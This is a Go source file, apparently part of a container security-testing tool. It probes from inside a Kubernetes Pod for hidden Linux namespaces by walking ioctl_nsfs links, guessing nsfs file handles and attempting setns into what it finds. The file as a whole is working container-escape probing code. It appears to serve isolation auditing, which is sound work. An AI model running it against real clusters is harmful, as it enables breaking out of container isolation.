package main

import (
	"cmp"
	"encoding/binary"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Requests of ioctl_nsfs(2).
const (
	nsGetUserNS  = 0xb701
	nsGetParent  = 0xb702
	nsMountsNext = 2<<30 | 16<<16 | 0xb7<<8 | 11
	nsMountsPrev = 2<<30 | 16<<16 | 0xb7<<8 | 12
)

// knownNamespaces are those of the processes that the Pod sees, by name; the values
// are paths of one process that is in each.
func knownNamespaces() map[string]string {
	known := map[string]string{}
	for _, pid := range append(processes(), os.Getpid()) {
		links, _ := filepath.Glob(fmt.Sprintf("/proc/%d/ns/*", pid)) // it may have ended
		for _, link := range links {
			if name, err := os.Readlink(link); err == nil {
				known[name] = link
			}
		}
	}
	return known
}

// hiddenNamespaces opens namespaces in which the Pod sees no process, by their
// names: owners and parents of those that it sees, neighbours in the kernel's list
// of mount namespaces, and what a file handle names whose numbers can be guessed.
var hiddenNamespaces = sync.OnceValue(func() map[string]int {
	known, hidden := knownNamespaces(), map[string]int{}
	var climb func(fd int)
	climb = func(fd int) {
		name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		if err != nil || hidden[name] != 0 {
			unix.Close(fd)
			return
		}
		if known[name] == "" {
			hidden[name] = fd
		}
		for _, request := range []uintptr{nsGetUserNS, nsGetParent, nsMountsNext, nsMountsPrev} {
			if strings.HasPrefix(name, "mnt:") == (request == nsGetParent) {
				continue // those have no parents, and only those are in a list
			}
			var info [16]byte // struct mnt_ns_info, which is filled in
			r, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), request, uintptr(unsafe.Pointer(&info)))
			if errno != 0 {
				continue
			}
			other := int(r)
			name, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", other))
			if err != nil || known[name] != "" && request != nsMountsNext && request != nsMountsPrev || seen[name] {
				unix.Close(other)
				continue
			}
			seen[name] = true
			climb(other)
		}
	}
	for _, link := range known {
		if fd, err := unix.Open(link, unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
			climb(fd)
		}
	}
	guessed = openGuessed(known, climb)
	return hidden
})

var (
	seen    = map[string]bool{} // the namespaces that were climbed from
	guessed int                 // how many file handles were tried
)

// Handles of namespaces by file, of nsfs.
const (
	nsfsRoot   = -10003 // FD_NSFS_ROOT
	nsfsHandle = 0xf1   // FILEID_NSFS

	firstInode  = 0xf0000000 // of namespaces, as /proc shows them
	guessAround = 48         // how far from a serial number that is known others are tried
	guessWithin = 30 * time.Second
)

// openGuessed opens namespaces by file handles of nsfs. A handle holds, as
// include/uapi/linux/nsfs.h has it, the kernel's serial number, the type and the
// number that the link in /proc shows. Serial numbers near those of known namespaces
// are tried, with all the numbers that a link can have: the outermost container's
// namespaces were made shortly before the node's.
func openGuessed(known map[string]string, found func(fd int)) (tried int) {
	deadline := time.Now().Add(guessWithin)
	distances, types, last := map[uint64]uint64{}, map[string]uint32{}, uint32(firstInode)
	for name, link := range known {
		handle, _, err := unix.NameToHandleAt(unix.AT_FDCWD, link, unix.AT_SYMLINK_FOLLOW)
		if err != nil || handle.Type() != nsfsHandle || handle.Size() < 16 {
			continue // an older kernel
		}
		id := handle.Bytes()
		serial := binary.NativeEndian.Uint64(id)
		for distance := range uint64(guessAround) {
			for _, s := range []uint64{serial - min(distance, serial-1), serial + distance} {
				if known, ok := distances[s]; !ok || distance < known {
					distances[s] = distance
				}
			}
		}
		kind, _, _ := strings.Cut(name, ":")
		types[kind] = binary.NativeEndian.Uint32(id[8:])
		last = max(last, binary.NativeEndian.Uint32(id[12:]))
	}
	serials := slices.SortedFunc(maps.Keys(distances), func(a, b uint64) int { return cmp.Compare(distances[a], distances[b]) })
	id := make([]byte, 16)
	for _, kind := range []string{"mnt", "user", "pid", "net"} {
		binary.NativeEndian.PutUint32(id[8:], types[kind])
		for _, serial := range serials {
			binary.NativeEndian.PutUint64(id, serial)
			for i := uint32(firstInode); i < last+guessAround; i++ {
				binary.NativeEndian.PutUint32(id[12:], i)
				tried++
				if fd, err := unix.OpenByHandleAt(nsfsRoot, unix.NewFileHandle(nsfsHandle, id), unix.O_RDONLY|unix.O_CLOEXEC); err == nil {
					found(fd)
					break
				}
			}
			if time.Now().After(deadline) {
				return tried
			}
		}
	}
	return tried
}

// canEnter reports whether a thread can be put into the namespace.
func canEnter(name string, fd int) bool {
	if strings.HasPrefix(name, "mnt:") {
		return space{name: name, fd: fd}.inCopy(func(string) error { return nil }) == nil
	}
	done := make(chan error)
	go func() {
		runtime.LockOSThread() // never unlocked: the thread ends with the goroutine
		done <- unix.Setns(fd, 0)
	}()
	return <-done == nil
}

// attackNamespaces reports the namespaces that were opened though no process that
// the Pod sees is in them.
func attackNamespaces([]string) error {
	for name, fd := range hiddenNamespaces() {
		done := []string{"opened"}
		if canEnter(name, fd) {
			done = append(done, "entered")
		}
		report(result{Attack: "namespaces", Where: name, Done: done})
	}
	report(result{Attack: "namespaces", Count: len(knownNamespaces()), Note: fmt.Sprintf("%d file handles were guessed", guessed)})
	return nil
}
